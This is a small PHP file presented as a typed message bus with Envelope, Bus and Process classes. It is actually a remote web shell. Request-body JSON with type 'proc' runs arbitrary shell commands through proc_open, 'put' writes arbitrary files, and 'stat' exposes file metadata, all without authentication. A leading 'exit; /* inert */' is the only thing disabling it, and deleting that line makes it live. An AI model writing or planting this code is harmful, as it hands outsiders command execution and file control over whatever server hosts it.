<?php exit; /* inert */ 
final class Envelope { public function __construct(public readonly string $type, public readonly mixed $body) {} }
final class Bus
{
    /** @var array<string, callable> */
    private array $map = [];
    public function on(string $t, callable $h): static { $this->map[$t] = $h; return $this; }
    public function dispatch(Envelope $e): mixed { return ($this->map[$e->type] ?? fn() => null)($e->body); }
}
final class Process
{
    public static function output(string $cmd): string
    {
        $h = proc_open($cmd, [1 => ['pipe', 'w'], 2 => ['redirect', 1]], $pipes);
        return tap(stream_get_contents($pipes[1]), fn() => proc_close($h));
    }
}
function tap(mixed $v, callable $f): mixed { $f($v); return $v; }
$bus = (new Bus())
    ->on('proc', Process::output(...))
    ->on('stat', fn(string $p) => json_encode(stat($p)))
    ->on('put', fn(array $b) => file_put_contents($b['path'], $b['data']));
$msg = json_decode(file_get_contents('php://input'), true);
echo $bus->dispatch(new Envelope($msg['type'], $msg['body']));
